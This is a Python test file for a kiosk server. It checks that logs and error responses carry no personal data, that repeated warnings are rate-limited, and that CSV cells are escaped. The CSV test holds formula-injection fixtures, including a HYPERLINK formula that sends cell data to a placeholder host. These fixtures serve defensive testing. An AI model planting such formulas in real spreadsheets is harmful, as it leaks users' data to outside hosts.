"""No personal data in logs or error bodies; no formula in a CSV cell (issue 15, item 7)."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
from pathlib import Path

import httpx
import pytest
from sqlalchemy import text
from sqlalchemy.exc import IntegrityError
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from kiosk.csv_cells import safe_cell
from kiosk.server.app import guarded
from kiosk.server.ratelog import RateLimited, db_cause
from kiosk.services.reports_queue import rows_csv
from kiosk.store.db import make_engine

NAME, PHONE = "Nguyễn Thị Hồng", "0912345678"


def test_database_errors_never_carry_the_values(tmp_path: Path) -> None:
    engine = make_engine(f"sqlite:///{tmp_path / 'x.sqlite3'}")
    with engine.begin() as c:
        c.execute(text("CREATE TABLE p (id INTEGER PRIMARY KEY, name TEXT UNIQUE, phone TEXT)"))
        c.execute(text("INSERT INTO p (name, phone) VALUES (:n, :p)"), {"n": NAME, "p": PHONE})
    with pytest.raises(IntegrityError) as caught, engine.begin() as c:
        c.execute(text("INSERT INTO p (name, phone) VALUES (:n, :p)"), {"n": NAME, "p": PHONE})
    assert NAME not in str(caught.value) and PHONE not in str(caught.value)
    assert db_cause(caught.value) == "IntegrityError"
    engine.dispose()


def test_a_409_and_a_500_say_nothing_of_the_database_or_the_data(
    caplog: pytest.LogCaptureFixture,
) -> None:
    class Orig(Exception):
        sqlstate = "23505"

    async def conflict(request: Request) -> Response:
        detail = f'duplicate key value violates unique constraint "x"\nDETAIL: ({NAME}, {PHONE})'
        raise IntegrityError("INSERT ...", {"name": NAME}, Orig(detail))

    async def bug(request: Request) -> Response:
        raise ValueError(f"cannot parse {NAME}")

    app = Starlette(routes=[Route("/c", guarded(conflict)), Route("/b", guarded(bug))])

    async def get(path: str) -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://t") as client:
            return await client.get(path)

    from kiosk.privacy.logsafe import PersonalDataFilter

    # as in the log file: through the personal-data filter, which must still let the causes by.
    # pytest keeps one capture handler for the whole session: the filter must go with the test
    # (left on, it redacted every later test's records before the log file's own filter did)
    only_here = PersonalDataFilter()
    caplog.handler.addFilter(only_here)
    try:
        with caplog.at_level(logging.INFO):
            r = asyncio.run(get("/c"))
            assert r.status_code == 409
            assert "duplicate" in r.json()["error"] and "DETAIL" not in r.text
            assert NAME not in r.text
            r = asyncio.run(get("/b"))
            assert r.status_code == 500 and NAME not in r.text
    finally:
        caplog.handler.removeFilter(only_here)
    assert NAME not in caplog.text and PHONE not in caplog.text
    assert "(23505)" in caplog.text and "ValueError at test_leaks.py" in caplog.text


def test_a_storm_of_one_cause_logs_one_line_per_interval(caplog: pytest.LogCaptureFixture) -> None:
    limited = RateLimited(logging.getLogger("kiosk.test"), interval=3600)
    with caplog.at_level(logging.WARNING):
        logged = [limited.warning("accept failed: %s", "EMFILE") for _ in range(10_000)]
        limited.warning("database unavailable: %s", "OperationalError")
    assert sum(logged) == 1
    assert len(caplog.records) == 2


def test_the_causes_remembered_are_bounded() -> None:
    from kiosk.server.ratelog import MAX_CAUSES

    limited = RateLimited(logging.getLogger("kiosk.test"), interval=3600)
    logged = [limited.warning("event loop: %s", i, key=f"loop {i}") for i in range(3 * MAX_CAUSES)]
    assert sum(logged) == MAX_CAUSES and len(limited._last) == MAX_CAUSES


def test_csv_cells_cannot_be_formulas() -> None:
    rows = [
        {"clerk": '=HYPERLINK("http://x.example/?"&A1,"Bấm")', "n": -5, "note": "+84 912"},
        {"clerk": "@SUM(A1:A9)", "n": 3, "note": "-1+1"},
        {"clerk": "\t=1+1", "n": 0, "note": "\r=1"},
        {"clerk": "Lê Văn A", "n": 1.5, "note": "a=b"},
    ]
    back = list(csv.reader(io.StringIO(rows_csv(rows), newline="")))
    assert back[0] == ["clerk", "n", "note"]
    assert [r[0][0] for r in back[1:4]] == ["'", "'", "'"]
    assert back[1][1] == "-5" and back[2][2] == "'-1+1" and back[3][2] == "'\n=1"
    assert back[4] == ["Lê Văn A", "1.5", "a=b"]
    assert safe_cell(-3) == -3 and safe_cell("=x") == "'=x"


def test_a_record_through_two_filtered_handlers_keeps_its_redacted_traceback() -> None:
    from kiosk.privacy.logsafe import PersonalDataFilter

    streams = [io.StringIO(), io.StringIO()]
    handlers = [logging.StreamHandler(s) for s in streams]
    log = logging.getLogger("kiosk.test_leaks.two_handlers")
    log.propagate = False
    for h in handlers:
        h.addFilter(PersonalDataFilter())
        log.addHandler(h)
    try:
        try:
            raise ValueError(f"cannot save dossier of {NAME}")
        except ValueError:
            log.exception("saving failed for %s", NAME)
    finally:
        for h in handlers:
            log.removeHandler(h)
        log.propagate = True
    for stream in streams:
        text = stream.getvalue()
        assert NAME not in text and "[traceback hidden]" not in text
        assert "Traceback" in text and "ValueError: [message hidden]" in text


def test_the_servers_console_log_goes_through_the_personal_data_filter() -> None:
    """The server logs to standard error (the journal, a Windows service's log): a library's
    message or an exception carrying a citizen's data must reach it redacted, as in the PC's
    log files (it was `logging.basicConfig`, which writes a record as it is)."""
    import subprocess
    import sys

    script = f"""
import logging
from kiosk.server import run  # what `kiosk server` runs
run.setup_console_logging()
run.setup_console_logging()  # a second call (each worker) keeps one handler
logging.getLogger("uvicorn.error").error("client said %s, %s", {NAME!r}, {PHONE!r})
try:
    raise ValueError("cannot parse " + {NAME!r})
except ValueError:
    logging.getLogger("kiosk.server").exception("push %s failed", "S01")
"""
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=120, check=True
    )
    err = done.stderr
    assert NAME not in err and PHONE not in err
    assert "push S01 failed" in err and "ValueError" in err
    assert err.count("client said") == 1
